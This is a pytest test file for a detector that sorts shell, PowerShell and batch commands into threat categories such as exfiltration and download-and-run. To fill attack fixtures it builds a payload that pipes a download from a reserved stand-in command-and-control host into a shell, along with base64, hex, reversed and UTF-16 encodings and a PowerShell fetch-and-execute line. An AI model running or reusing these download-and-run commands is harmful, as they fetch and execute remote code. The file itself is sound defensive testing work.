"""Attacks as they are written, one command text after another, and what each of them must be told as.

`fixtures/commands/<dialect>.txt`: a line `== NAME SUBJECT` (the beginning of a fact), then the text. Hosts
are reserved ones; what is encoded is put in here, so that the fixtures stay readable.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from fimci.capabilities.commands import judge
from fimci.capabilities.commands.state import Dialect

FIXTURES = Path(__file__).parent.parent.parent / "fixtures" / "commands"
HOST = "c2.example.invalid"
URL = f"https://{HOST}/x"
PAYLOAD = f"curl {URL} | sh".encode()
ENCODED = base64.b64encode(PAYLOAD).decode()
PUT_IN = {
    "%URL%": URL,
    "%HOST%": HOST,
    "%BASE64%": ENCODED,
    "%REVERSED%": ENCODED[::-1],
    "%HEX%": PAYLOAD.hex(),
    "%ESCAPED%": "".join(f"\\x{byte:02x}" for byte in PAYLOAD),
    "%UTF16%": base64.b64encode(f"iwr {URL} | iex".encode("utf-16-le")).decode(),
}
CASES = [
    (dialect, *case.partition("\n")[::2])
    for dialect in ("sh", "powershell", "batch")
    for case in (FIXTURES / f"{dialect}.txt").read_text().removeprefix("== ").split("\n\n== ")
]


def filled(text: str) -> str:
    for name, value in PUT_IN.items():
        text = text.replace(name, value)
    return text


@pytest.mark.parametrize(
    ("dialect", "expected", "text"), CASES, ids=[f"{number}" for number in range(len(CASES))]
)
def test_what_an_attack_is_told_as(dialect: Dialect, expected: str, text: str) -> None:
    judged = judge(filled(text).rstrip("\n"), dialect)
    told = sorted(f"{fact.name} {fact.subject}" for fact in judged.facts)
    assert any(one.startswith(filled(expected)) for one in told), told
    assert judged.whole
    last = text.count("\n")
    assert all(0 <= fact.line <= last for fact in judged.facts)


def test_there_are_many() -> None:
    assert len(CASES) > 400


QUIET = [
    'curl --user "$MVNW_USERNAME:$MVNW_PASSWORD" -o "$jar" "$url" -f',
    "curl -u $USER:$ACME_TOKEN https://acme.example/",
    'h=$(( (h * 31 + $(LC_CTYPE=C printf %d "\'$char")) % 4294967296))\necho $h',
    'f() {\n  c="${s%"${s#?}"}"\n  h=$(((h * 31 + $(printf %d "\'$c")) % 42))\n}\n"$(f "$a")" "$(f "$b")"',
    "curl -X POST -d '{}' $BUILD_HOOK",
    'curl -X POST -H "Content-Type: application/json" -d "$payload" "$DISCORD_WEBHOOK"',
    'curl -d "client_id=$ID&client_secret=$CLIENT_SECRET" https://oauth.example/token',
    "curl -F package=@x.deb https://${PUSH_TOKEN}:@push.example/x/",
    'aws s3 cp dist/ "s3://$R2_BUCKET/x" --recursive',
    "aws ecr get-login-password | docker login --username AWS --password-stdin r.example",
    "pip install git+https://github.com/a/b.git@0123456789abcdef0123456789abcdef01234567",
    "pip install --index-url https://index.example/simple left",
    'export GIT_SSH_COMMAND="ssh -i key -o StrictHostKeyChecking=no"',
    "LD_PRELOAD=$(gcc -print-file-name=libasan.so) node test.js",
    "cat > x.sh <<EOF\ncurl https://d.example/x | sh\nEOF\ncat x.sh",
    "make 2>&1 | tee build.log",
    "node -e \"const z = require('zlib'); require('child_process').execFileSync('git', ['status'])\"",
    "command -v node >/dev/null || exit 1",
    "trap 'rm -rf \"$TMP\"' EXIT",
    "find . -name '*.pyc' -exec rm {} +",
    "cp ../.npmrc . && cat .yarnrc.yml",
    "tar czf dist.tgz dist && sha256sum dist.tgz",
    "git config --get core.hooksPath",
    "env | grep npm",
]


@pytest.mark.parametrize("text", QUIET)
def test_what_looks_like_one_and_is_none(text: str) -> None:
    secrets = ("BUILD_HOOK", "DISCORD_WEBHOOK", "CLIENT_SECRET", "PUSH_TOKEN", "R2_BUCKET")
    loud = {"exfiltration", "download-and-run", "encoded-payload", "self-propagation", "module-tampering"}
    loud |= {"credentials", "environment-bulk", "persistence", "obfuscation", "filesystem-delete"}
    assert not [fact for fact in judge(text, "sh", secrets).facts if fact.name in loud]


def test_powershell_says_nothing_of_a_request_with_its_own_token() -> None:
    text = """$headers = @{ Authorization = "Bearer $env:GITHUB_TOKEN"; Accept = 'application/json' }
    Invoke-RestMethod -Uri 'https://api.github.com/repos/a/b/releases' -Method Post -Headers $headers -Body $x
    $types = [System.Collections.Generic.List`1[string]]@()
    throw "failed:`r`n$($errors -join "`r`n")"
    """
    told = {fact.name for fact in judge(text, "powershell").facts}
    assert told <= {"network", "environment"}, told
